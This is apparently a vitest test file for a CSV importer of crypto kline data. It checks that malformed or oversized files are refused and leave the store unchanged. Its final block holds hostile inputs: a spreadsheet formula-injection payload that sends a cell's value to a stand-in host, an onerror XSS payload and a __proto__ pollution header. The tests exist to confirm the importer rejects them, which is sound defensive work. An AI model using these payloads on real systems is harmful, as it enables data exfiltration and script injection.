import { describe, it, expect } from 'vitest';
import { applyImport, importCsvFiles, parseCsvFile, planImport } from '../../../src/csv';
import { OUR_HEADER } from '../../../src/csv/detect';
import type { MarketStore } from '../../../src/storage/store';
import { dataLines, freshStore, KLINES_BTC, readFixture, snapshot, uploadBars } from './helpers';

const HEADER = readFixture(KLINES_BTC).split(/\r?\n/)[0];
const LINES = dataLines(readFixture(KLINES_BTC));
const NAME = 'BTCUSDT-1m-2024-07-18.csv';

/** A store that already holds ETH bars, so "unchanged" is checked on a non-empty database. */
async function seededStore(): Promise<MarketStore> {
  const store = await freshStore();
  const { result } = await importCsvFiles(store, [
    { input: readFixture('ETHUSDT-1m-klines.csv'), fileName: 'ETHUSDT-1m-2024-07-18.csv' },
  ]);
  expect(result.ok).toBe(true);
  return store;
}

/** Replaces field `col` of data line `i` (0-based among data lines). */
function withField(i: number, col: number, value: string): string {
  const lines = [...LINES];
  const c = lines[i].split(',');
  c[col] = value;
  lines[i] = c.join(',');
  return [HEADER, ...lines].join('\n');
}

async function expectRefused(input: string | Blob, message: RegExp, fileName = NAME) {
  const store = await seededStore();
  const before = snapshot(store);
  const { parsed, result } = await importCsvFiles(store, [{ input, fileName }]);
  expect(result.ok).toBe(false);
  expect(result.message).toMatch(message);
  expect(snapshot(store)).toEqual(before);
  return parsed[0];
}

describe('broken files are refused whole and leave the database unchanged', () => {
  it('refuses a file with a bad number and names the line and the field', async () => {
    const p = await expectRefused(withField(2, 1, 'abc'), /Nothing imported: 1 invalid row/);
    expect(p.problems).toEqual([{ row: 4, message: 'open is not a number: "abc"' }]);
  });

  it('refuses a bar whose high is below its low', async () => {
    const p = await expectRefused(withField(0, 2, '63000.0'), /invalid row/);
    expect(p.problems[0]).toEqual({ row: 2, message: 'high 63000.0 is below low 63926.90' });
  });

  it('refuses a bar whose low is above the open', async () => {
    const p = await expectRefused(withField(1, 3, '63940.0'), /invalid row/);
    expect(p.problems[0].message).toBe('low 63940.0 is above min(open, close)');
  });

  it('refuses a duplicate time with different values but only warns about an identical duplicate row', async () => {
    const dupDiff = [
      HEADER,
      LINES[0],
      LINES[1],
      LINES[1].replace('38.947', '38.948'),
      ...LINES.slice(2),
    ].join('\n');
    const p = await expectRefused(dupDiff, /invalid row/);
    expect(p.problems[0]).toEqual({
      row: 4,
      message: 'duplicate time 2024-07-18T23:57:00Z with different values than line 3',
    });
    const store = await freshStore();
    const dupSame = [HEADER, LINES[0], LINES[1], LINES[1], ...LINES.slice(2)].join('\n');
    const { parsed, result } = await importCsvFiles(store, [{ input: dupSame, fileName: NAME }]);
    expect(result.ok).toBe(true);
    expect(parsed[0].warnings).toEqual([{ row: 4, message: 'identical duplicate of line 3 (skipped)' }]);
    expect(uploadBars(store, 'BTCUSDT', '1m')).toHaveLength(11);
  });

  it('refuses times that go backwards or are not aligned to the interval', async () => {
    const back = [HEADER, LINES[1], LINES[0], ...LINES.slice(2)].join('\n');
    expect((await expectRefused(back, /invalid row/)).problems[0].message).toMatch(/earlier than line 2/);
    const p = await expectRefused(withField(3, 0, '1721347140001'), /invalid row/);
    expect(p.problems[0].message).toBe('time 2024-07-18T23:59:00.001Z is not aligned to the 1m interval');
  });

  it('refuses a row with the wrong column count', async () => {
    const lines = [HEADER, ...LINES];
    lines[5] = lines[5].split(',').slice(0, 11).join(',');
    const p = await expectRefused(lines.join('\r\n'), /invalid row/);
    expect(p.problems).toEqual([{ row: 6, message: 'expected 12 columns, found 11' }]);
  });

  it('refuses a 0-byte file, a blank file and a header-only file as empty', async () => {
    expect((await expectRefused('', /empty \(0 bytes\)/)).refused?.code).toBe('empty');
    expect((await expectRefused('\n\r\n  \n', /The file is empty/)).refused?.code).toBe('empty');
    expect((await expectRefused(`${HEADER}\n`, /no data rows/)).refused?.code).toBe('empty');
  });

  it('refuses binary junk: NUL bytes, invalid UTF-8 in a Blob, and text without columns', async () => {
    await expectRefused('\0\x01\x02PK\x03\x04', /not a text CSV file/);
    await expectRefused(
      new Blob([Uint8Array.of(0x6f, 0x70, 0x65, 0x6e, 0xff, 0xfe, 0xc3, 0x28, 0x0a)]),
      /invalid UTF-8/,
    );
    await expectRefused('hello world\nthis is prose\n', /No recognisable header or columns/);
  });

  it('refuses a 50 MB file of garbage quickly, at detection or after 1,000 invalid rows', async () => {
    const junkLine = 'qwe,rty,uio,pas,dfg,hjk,lzx,cvb,nmq,wer,tyu,iop\n';
    const junk = junkLine.repeat(Math.ceil((50 * 1024 * 1024) / junkLine.length));
    let t0 = performance.now();
    const p = await expectRefused(junk, /No recognisable columns/);
    expect(p.refused?.code).toBe('unrecognised');
    expect(performance.now() - t0).toBeLessThan(3_000);
    const badRows = `${HEADER}\n${'1721347020000,x,y,z,w,1,1721347079999,3,4,5,6,0\n'.repeat(1_500_000)}`;
    expect(badRows.length).toBeGreaterThan(50 * 1024 * 1024);
    t0 = performance.now();
    const q = await expectRefused(badRows, /first 1,000 data rows are all invalid/);
    expect(q.refused?.code).toBe('garbage');
    expect(q.rows).toBeLessThan(100_000);
    expect(performance.now() - t0).toBeLessThan(3_000);
    await expectRefused('x'.repeat(3_000_000), /No line break/);
  });

  it('refuses a file larger than the configured limit before reading it', async () => {
    const store = await freshStore();
    const p = await parseCsvFile(readFixture(KLINES_BTC), { fileName: NAME, maxBytes: 1000 });
    expect(p.refused).toEqual({
      code: 'tooLarge',
      message: expect.stringMatching(/files up to .* can be imported/) as unknown,
    });
    expect(applyImport(store, planImport(store, [p])).ok).toBe(false);
  });

  it('reports the first 20 problems with line numbers and the total, and imports valid rows only on request', async () => {
    const lines = [HEADER, ...LINES.slice(0, 3)];
    for (let i = 0; i < 30; i++) lines.push('1721347200000,1,0.5,2,1,1,1721347259999,1,1,1,1,0');
    lines.push(...LINES.slice(3));
    const text = lines.join('\n');
    const store = await seededStore();
    const before = snapshot(store);
    const p = await parseCsvFile(text, { fileName: NAME });
    expect(p.problemCount).toBe(30);
    expect(p.problems).toHaveLength(20);
    expect(p.problems[0].row).toBe(5);
    expect(p.problems[19].row).toBe(24);
    const plan = planImport(store, [p]);
    expect(applyImport(store, plan).message).toMatch(
      /30 invalid row\(s\)[\s\S]*line 5: high 0.5 is below low 2/,
    );
    expect(snapshot(store)).toEqual(before);
    const r = applyImport(store, plan, { validRowsOnly: true });
    expect(r.ok).toBe(true);
    expect(uploadBars(store, 'BTCUSDT', '1m')).toHaveLength(11);
  });

  describe('hostile files', () => {
    it('refuses a formula in a number cell, naming the line and the field, and stores nothing', async () => {
      const p = await expectRefused(
        withField(2, 4, '"=HYPERLINK(""http://evil.invalid/?leak=""&A1;""click"")"'),
        /line 4[\s\S]*close/,
      );
      expect(p.problemCount).toBeGreaterThan(0);
    });

    it('refuses a formula or markup in the symbol column of our own format', async () => {
      const ours = (symbol: string) =>
        `${OUR_HEADER.join(',')}\n${symbol},1m,upload,1721347020000,64000,64010,63990,64005,1.5,10,96000,0.7\n`;
      await expectRefused(ours('"=HYPERLINK(""http://evil.invalid"",""x"")"'), /symbol/, 'pairs-lab.csv');
      await expectRefused(ours('<img src=x onerror=alert(1)>'), /symbol/, 'pairs-lab.csv');
    });

    it('refuses a header of __proto__ and constructor keys without touching Object.prototype', async () => {
      const text = `__proto__,constructor,prototype,polluted\n{"polluted":1},2,3,4\n1,2,3,4\n`;
      await expectRefused(text, /No recognisable/);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      expect(Object.prototype.hasOwnProperty.call(Object.prototype, 'polluted')).toBe(false);
    });
  });
});
